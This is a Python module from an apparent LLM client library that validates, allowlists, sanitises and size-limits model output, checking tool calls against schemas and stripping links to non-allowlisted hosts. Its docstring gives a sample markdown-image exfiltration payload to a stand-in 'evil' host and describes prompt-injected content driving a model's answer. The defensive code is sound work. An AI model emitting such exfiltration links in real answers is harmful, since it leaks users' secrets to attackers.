"""Treat model output as untrusted text: validate it, allowlist it, sanitise it, bound it.

A model's answer is written by something that read attacker-controlled text (a page, an email,
a tool result). So before it drives code or reaches a browser:

- **structured output** is requested as a JSON schema where the API supports it
  (:func:`schema_options`), parsed with :func:`json.loads` (never ``eval``) and validated against
  a pydantic model or a JSON schema (:func:`parse_structured`). :func:`structured_chat` retries
  with the validation error shown to the model, then escalates to the next model, then raises;
- **tool calls** have their names checked against an allowlist and their arguments against
  the tool's JSON schema *before* anything runs (:class:`ToolGuard`);
- **rendering**: text shown in HTML is sanitised by ``nh3`` (a maintained sanitiser, Rust's
  ammonia) with links and images kept only for allowlisted hosts over https; markdown links and
  images to other hosts (the classic exfiltration channel: ``![](https://evil/?q=<secret>)``)
  are removed (:func:`render_html`, :func:`filter_links`);
- **size limits** on the text, the tool calls and the JSON taken from the model
  (:class:`OutputLimits`).

Every failed check is a typed error (:class:`OutputRejectedError`, an ``invalid_response``
kind) or, with :class:`OutputGuardLayer` in ``record`` mode, a recorded :class:`OutputEvent`
(an ``output.rejected`` event row in telemetry, and the call's :class:`OutputGuardOutcome`);
never a crash in user code. Error messages name the check and the
reason, never echo more than a short prefix of the output.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Literal, TypeVar, cast, overload
from urllib.parse import urlsplit

from llmkit.errors import InvalidResponseError
from llmkit.layers import AsyncHandler, CallContext, Handler
from llmkit.outcomes import Column, register_columns
from llmkit.types import ChatRequest, ChatResponse, Message, Tool, ToolCall

if TYPE_CHECKING:
    from pydantic import BaseModel

__all__ = [
    "OutputEvent",
    "OutputGuardLayer",
    "OutputGuardOutcome",
    "OutputLimits",
    "OutputRejectedError",
    "ToolGuard",
    "filter_links",
    "parse_structured",
    "render_html",
    "schema_options",
    "structured_chat",
]

M = TypeVar("M", bound="BaseModel")
Check = Literal["schema", "json", "tool_name", "tool_arguments", "size"]


class OutputRejectedError(InvalidResponseError):
    """Model output failed a check. ``check`` names which; ``errors`` lists why (short)."""

    def __init__(self, check: Check, errors: Sequence[str], *, provider: str | None = None):
        self.check: Check = check
        self.errors = [e[:200] for e in errors[:10]]
        super().__init__(
            f"model output rejected ({check}): " + "; ".join(self.errors),
            provider=provider,
            code=f"output_{check}",
        )


@dataclass(frozen=True, slots=True)
class OutputLimits:
    """Upper bounds on what is taken from the model."""

    max_chars: int = 100_000
    max_tool_calls: int = 16
    max_argument_chars: int = 20_000
    max_json_depth: int = 32

    def check(self, response: ChatResponse) -> list[str]:
        """The limits ``response`` exceeds (empty when within all of them)."""
        out: list[str] = []
        if len(response.text) > self.max_chars:
            out.append(f"text is {len(response.text)} chars > {self.max_chars}")
        if len(response.tool_calls) > self.max_tool_calls:
            out.append(f"{len(response.tool_calls)} tool calls > {self.max_tool_calls}")
        out += [
            f"tool call {c.name!r} arguments are {len(c.arguments)} chars "
            f"> {self.max_argument_chars}"
            for c in response.tool_calls
            if len(c.arguments) > self.max_argument_chars
        ]
        return out


# ------------------------------------------------------------------------- structured output


def _json_schema(schema: type[BaseModel] | Mapping[str, Any]) -> dict[str, Any]:
    if isinstance(schema, Mapping):
        return dict(schema)
    return schema.model_json_schema()


def schema_options(
    provider: str, schema: type[BaseModel] | Mapping[str, Any], *, name: str = "answer",
    api: str | None = None,
) -> dict[str, Any]:  # fmt: skip
    """Body parameters asking for JSON matching ``schema`` (pass them as ``**extra``).

    OpenAI Chat Completions and OpenRouter: ``response_format`` with a ``json_schema``; the
    Responses API: ``text.format``. Anthropic Messages has no such parameter here: the schema
    goes into the instructions (see :func:`structured_chat`) and validation does the rest.
    """
    js = _json_schema(schema)
    if provider == "openai" and api == "responses":
        return {"text": {"format": {"type": "json_schema", "name": name, "schema": js}}}
    if provider in ("openai", "openrouter", "compatible", "openai-compatible"):
        spec = {"name": name, "schema": js}
        return {"response_format": {"type": "json_schema", "json_schema": spec}}
    return {}


_FENCE = re.compile(r"^\s*```(?:json)?\s*\n(.*)\n\s*```\s*$", re.DOTALL)


def _depth(value: Any, limit: int) -> int:
    depth, level = 0, [value]
    while level:
        depth += 1
        if depth > limit:
            return depth
        nxt: list[Any] = []
        for v in level:
            if isinstance(v, dict):
                nxt.extend(v.values())
            elif isinstance(v, list):
                nxt.extend(v)
        level = nxt
    return depth


def _load(text: str, limits: OutputLimits) -> Any:
    if len(text) > limits.max_chars:
        raise OutputRejectedError("size", [f"text is {len(text)} chars > {limits.max_chars}"])
    m = _FENCE.match(text)
    try:
        data = json.loads(m.group(1) if m else text)
    except ValueError as exc:
        raise OutputRejectedError("json", [f"not JSON: {exc}"]) from None
    if _depth(data, limits.max_json_depth) > limits.max_json_depth:
        raise OutputRejectedError("size", [f"JSON nested deeper than {limits.max_json_depth}"])
    return data


@overload
def parse_structured(text: str, schema: type[M], *, limits: OutputLimits = ...) -> M: ...
@overload
def parse_structured(
    text: str, schema: Mapping[str, Any], *, limits: OutputLimits = ...
) -> Any: ...
def parse_structured(
    text: str, schema: type[BaseModel] | Mapping[str, Any], *, limits: OutputLimits = OutputLimits()
) -> Any:
    """Parse ``text`` as JSON (a ```json fence around it is accepted) and validate it.

    ``schema`` is a pydantic model class (returns an instance) or a JSON schema (returns the
    parsed value). Raises :class:`OutputRejectedError` with ``check`` ``json``, ``schema`` or
    ``size``.
    """
    data = _load(text, limits)
    if isinstance(schema, Mapping):
        return _validate_json_schema(data, schema, "schema")
    from pydantic import ValidationError  # noqa: PLC0415 - heavy; imported on use

    try:
        return schema.model_validate(data)
    except ValidationError as exc:
        errors = [f"{'.'.join(map(str, e['loc'])) or '(root)'}: {e['msg']}" for e in exc.errors()]
        raise OutputRejectedError("schema", errors) from None


def _validate_json_schema(data: Any, schema: Mapping[str, Any], check: Check) -> Any:
    import jsonschema  # noqa: PLC0415 - imported on use

    validator = jsonschema.Draft202012Validator(schema)
    errors = [
        f"{'.'.join(map(str, e.absolute_path)) or '(root)'}: {e.message}"
        for e in sorted(validator.iter_errors(data), key=lambda e: list(map(str, e.path)))
    ]
    if errors:
        raise OutputRejectedError(check, errors)
    return data


@dataclass(frozen=True, slots=True)
class StructuredResult:
    """What :func:`structured_chat` got: the value, the answer it came from, and the failures
    it went through (each attempt's model and error), in order."""

    value: Any
    response: ChatResponse
    failures: tuple[tuple[str, OutputRejectedError], ...] = ()


def structured_chat(
    chat: Callable[..., ChatResponse],
    schema: type[BaseModel] | Mapping[str, Any],
    *,
    models: Sequence[str],
    messages: Sequence[Message | Mapping[str, Any]],
    provider: str = "openai",
    api: str | None = None,
    attempts_per_model: int = 2,
    limits: OutputLimits = OutputLimits(),
    **options: Any,
) -> StructuredResult:
    """Ask for ``schema`` until an answer validates: retry with the error, then escalate.

    ``chat`` is ``client.chat``; ``provider`` and ``api`` (``"responses"``) pick the schema
    parameter (:func:`schema_options`). Each model in ``models`` gets ``attempts_per_model``
    tries; a retry shows the model its previous answer and the validation errors. When the
    last model fails too, the last :class:`OutputRejectedError` is raised (``failures`` on the
    others is in the result). The schema is also placed in the instructions, for APIs without
    a schema parameter.
    """
    if not models:
        raise ValueError("structured_chat needs at least one model")
    js = json.dumps(_json_schema(schema), separators=(",", ":"))
    base = [Message.from_dict(m) for m in messages]
    rule = Message("system", f"Reply with one JSON value matching this JSON schema only: {js}")
    extra = schema_options(provider, schema, api=api)
    failures: list[tuple[str, OutputRejectedError]] = []
    last: OutputRejectedError | None = None
    for model in models:
        convo = [rule, *base]
        for _ in range(attempts_per_model):
            response = chat(model=model, messages=convo, **extra, **options)
            try:
                value = parse_structured(response.text, schema, limits=limits)
            except OutputRejectedError as exc:
                failures.append((model, exc))
                last = exc
                convo += [
                    Message("assistant", response.text[: limits.max_chars]),
                    Message("user", "That answer was rejected: " + "; ".join(exc.errors)
                            + ". Reply again with JSON only."),
                ]  # fmt: skip
                continue
            return StructuredResult(value, response, tuple(failures))
    assert last is not None
    raise last


# ---------------------------------------------------------------------------------- tool calls


@dataclass(frozen=True, slots=True)
class ToolGuard:
    """Tool calls checked before anything runs: name allowlisted, arguments schema-valid.

    ``tools`` are the tools offered; ``allow`` (default: their names) is the allowlist --
    narrower than ``tools`` when a tool is offered but must not run in this context.
    """

    tools: Sequence[Tool]
    allow: frozenset[str] | None = None
    limits: OutputLimits = OutputLimits()

    def check(self, call: ToolCall) -> dict[str, Any]:
        """The parsed arguments of ``call``, or :class:`OutputRejectedError`."""
        allowed = self.allow if self.allow is not None else {t.name for t in self.tools}
        by_name = {t.name: t for t in self.tools}
        if call.name not in allowed or call.name not in by_name:
            raise OutputRejectedError("tool_name", [f"tool {call.name[:60]!r} is not allowed"])
        if len(call.arguments) > self.limits.max_argument_chars:
            raise OutputRejectedError("size", [f"arguments > {self.limits.max_argument_chars}"])
        try:
            args = json.loads(call.arguments or "{}")
        except ValueError as exc:
            raise OutputRejectedError("tool_arguments", [f"not JSON: {exc}"]) from None
        if not isinstance(args, dict):
            raise OutputRejectedError("tool_arguments", ["arguments must be a JSON object"])
        return cast(
            "dict[str, Any]",
            _validate_json_schema(args, by_name[call.name].parameters, "tool_arguments"),
        )


# ---------------------------------------------------------------------------------- rendering

_MD_LINK = re.compile(r"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_BARE_URL = re.compile(r"(?<![\(\"'=])\bhttps?://[^\s<>\"')\]]+", re.IGNORECASE)


def _host_ok(url: str, hosts: Iterable[str]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    host = (parts.hostname or "").lower()
    if parts.scheme != "https" or not host:
        return False
    return any(host == h or host.endswith("." + h) for h in hosts)


def filter_links(text: str, allowed_hosts: Iterable[str]) -> tuple[str, list[str]]:
    """Markdown links/images and bare URLs to hosts outside ``allowed_hosts`` (https only;
    subdomains included) removed. Returns the text and the removed URLs."""
    hosts = [h.lower() for h in allowed_hosts]
    removed: list[str] = []

    def md(m: re.Match[str]) -> str:
        bang, label, url = m.groups()
        if _host_ok(url, hosts):
            return m.group()
        removed.append(url)
        return "" if bang else f"{label} [link removed]"

    def bare(m: re.Match[str]) -> str:
        if _host_ok(m.group(), hosts):
            return m.group()
        removed.append(m.group())
        return "[link removed]"

    return _BARE_URL.sub(bare, _MD_LINK.sub(md, text)), removed


_TAGS: frozenset[str] = frozenset(
    {"p", "br", "b", "strong", "i", "em", "code", "pre", "ul", "ol", "li", "blockquote", "a",
     "img", "h1", "h2", "h3", "h4", "table", "thead", "tbody", "tr", "th", "td"}
)  # fmt: skip


def render_html(
    html: str, *, allowed_hosts: Iterable[str] = (), limits: OutputLimits = OutputLimits()
) -> str:
    """Model-written HTML made safe to insert into a page.

    ``nh3`` keeps a small set of formatting tags, drops scripts, event handlers and styles, and
    keeps ``href``/``src`` only when the URL is https on an allowlisted host (the element stays,
    its link goes). Output over ``limits.max_chars`` is refused.
    """
    import nh3  # noqa: PLC0415 - imported on use

    if len(html) > limits.max_chars:
        raise OutputRejectedError("size", [f"text is {len(html)} chars > {limits.max_chars}"])
    hosts = [h.lower() for h in allowed_hosts]

    def attribute_filter(tag: str, attr: str, value: str) -> str | None:
        if attr in ("href", "src"):
            return value if _host_ok(value, hosts) else None
        return value

    return nh3.clean(
        html,
        tags=set(_TAGS),
        attributes={"a": {"href", "title"}, "img": {"src", "alt"}},
        url_schemes={"https"},
        attribute_filter=attribute_filter,
        link_rel="noopener noreferrer nofollow",
    )


# -------------------------------------------------------------------------------- the layer


@dataclass(frozen=True, slots=True)
class OutputEvent:
    """One failed check, recorded instead of raised (``OutputGuardLayer(on_fail="record")``)."""

    check: Check
    errors: tuple[str, ...]
    tool: str | None = None


@dataclass(frozen=True, slots=True)
class OutputGuardOutcome:
    """The checks that failed on this call's answer (empty when all passed)."""

    events: tuple[OutputEvent, ...] = ()


register_columns(
    OutputGuardOutcome,
    Column("output_rejected", "llmkit.output.rejected", call=lambda o: len(o.events)),
)


@dataclass(slots=True)
class OutputGuardLayer:
    """Check every answer before it reaches user code: size limits and tool calls.

    ``on_fail="raise"`` raises :class:`OutputRejectedError` (not retried: the same request
    would likely get the same answer; escalate with :func:`structured_chat` or a fallback).
    ``on_fail="record"`` drops the rejected tool calls, truncates oversized text and records
    each failure: an ``output.rejected`` event row (target: the tool or ``text``; reason: the
    check) and the :class:`OutputGuardOutcome` (column ``output_rejected``: how many).
    """

    tools: ToolGuard | None = None
    limits: OutputLimits = field(default_factory=OutputLimits)
    on_fail: Literal["raise", "record"] = "raise"

    def _check(self, response: ChatResponse, ctx: CallContext) -> ChatResponse:
        events: list[OutputEvent] = []
        if len(response.text) > self.limits.max_chars:
            events.append(OutputEvent("size", (f"text > {self.limits.max_chars} chars",)))
            response = response.with_(text=response.text[: self.limits.max_chars])
        calls = list(response.tool_calls)
        if len(calls) > self.limits.max_tool_calls:
            events.append(OutputEvent("size", (f"{len(calls)} tool calls",)))
            calls = calls[: self.limits.max_tool_calls]
        kept: list[ToolCall] = []
        for call in calls:
            if self.tools is None:
                kept.append(call)
                continue
            try:
                self.tools.check(call)
            except OutputRejectedError as exc:
                events.append(OutputEvent(exc.check, tuple(exc.errors), call.name[:60]))
                continue
            kept.append(call)
        ctx.report(OutputGuardOutcome(tuple(events)))
        if self.on_fail == "record":
            for e in events:
                ctx.event("output.rejected", target=e.tool or "text", reason=e.check)
        if events and self.on_fail == "raise":
            first = events[0]
            raise OutputRejectedError(first.check, list(first.errors), provider=response.provider)
        return (
            response.with_(tool_calls=tuple(kept))
            if len(kept) != len(response.tool_calls)
            else response
        )

    def handle(self, request: ChatRequest, ctx: CallContext, next: Handler) -> ChatResponse:
        return self._check(next(request, ctx), ctx)

    async def ahandle(
        self, request: ChatRequest, ctx: CallContext, next: AsyncHandler
    ) -> ChatResponse:
        return self._check(await next(request, ctx), ctx)
